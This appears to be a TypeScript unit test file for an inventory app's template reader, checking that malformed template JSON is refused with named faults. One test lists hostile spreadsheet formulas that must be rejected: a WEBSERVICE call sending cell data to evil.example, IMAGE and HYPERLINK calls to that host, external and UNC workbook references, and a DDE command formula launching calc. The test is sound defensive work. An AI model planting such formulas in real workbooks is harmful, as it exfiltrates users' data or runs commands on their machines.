/** Template files from outside: every fault is named, and none may reach outside the workbook. */
import { readTemplate, readTemplateText } from "../../src/domain/templates/read-template";

const good = {
  format: "inv-template",
  version: 1,
  id: "team-plan",
  title: "Team plan",
  summary: "What we look at on Mondays.",
  needs: "pairs",
  sheet: { name: "Plan" },
  table: {
    name: "Plan",
    columns: [
      { id: "number", header: "Store", cell: "{store}" },
      { id: "gtin", header: "GTIN", cell: "{item}" },
      { id: "shelf", header: "Shelf", cell: "=INV.QTY({number}{row},{gtin}{row})" },
    ],
  },
};

type Json = Record<string, unknown>;
const withColumn = (cell: unknown, more: Json = {}): Json => ({
  ...good,
  table: { ...good.table, columns: [...good.table.columns, { id: "extra", header: "Extra", cell, ...more }] },
});

test("a good file is read as it is", () => {
  const { template, faults } = readTemplateText(JSON.stringify(good));
  expect(faults).toBeNull();
  expect(template).toMatchObject(good);
});

test.each<[string, unknown, RegExp]>([
  ["another program's file", { hello: 1 }, /"format": must be "inv-template"/],
  ["a newer version", { ...good, version: 2 }, /"version": must be 1/],
  [
    "a field that is not known, such as a secret",
    { ...good, client_secret: "x" },
    /Unrecognized key|client_secret|Invalid/,
  ],
  ["a bad id", { ...good, id: "Team Plan" }, /"id": must be lower-case/],
  ["a title that is too long", { ...good, title: "x".repeat(61) }, /"title": is longer than 60/],
  ["a table that is missing", { ...good, table: undefined }, /"table": is needed/],
  ["a placeholder that means nothing", withColumn("={shelve}{row}"), /\{shelve\} means nothing there/],
  ["an id used twice", withColumn(1, { id: "shelf" }), /"shelf" is used twice/],
  [
    "rows of different lengths",
    { ...good, blocks: [{ at: "H1", rows: [[1], [1, 2]] }] },
    /different lengths/,
  ],
  ["a place that is none", { ...good, blocks: [{ at: "H0", rows: [[1]] }] }, /must be a cell such as B2/],
])("%s is refused, and the fault named", (_, json, expected) => {
  const { template, faults } = readTemplate(json);
  expect(template).toBeNull();
  expect(faults!.join("\n")).toMatch(expected);
});

test.each([
  '=WEBSERVICE("https://evil.example/?"&C2)',
  "=webservice (A1)",
  '=IMAGE("https://evil.example/"&A1)',
  '=HYPERLINK("https://evil.example","ok")',
  "=[Book2.xlsx]Sheet1!A1",
  "='\\\\server\\share\\[b.xlsx]S'!A1",
  "=cmd|'/c calc'!A0",
  '=RTD("x",,"y")',
])("%s is refused: it reaches outside the workbook", (cell) => {
  expect(readTemplate(withColumn(cell)).faults?.[0]).toMatch(/reaches outside|another file or program/);
});

test("words in text that look like such functions are no fault", () => {
  expect(readTemplate(withColumn('=IF({shelf}{row}>0,"see IMAGE(1) | ok","")')).faults).toBeNull();
});

test("what is no JSON or too long is refused before it is looked at", () => {
  expect(readTemplateText("{").faults).toEqual(["The file is not valid JSON."]);
  expect(readTemplateText(" ".repeat(300_000)).faults?.[0]).toMatch(/longer than/);
});

test("at most twenty faults are told", () => {
  const columns = Array.from({ length: 40 }, (_, index) => ({ id: `c${index}`, header: "", cell: 1 }));
  expect(readTemplate({ ...good, table: { name: "T", columns } }).faults).toHaveLength(20);
});
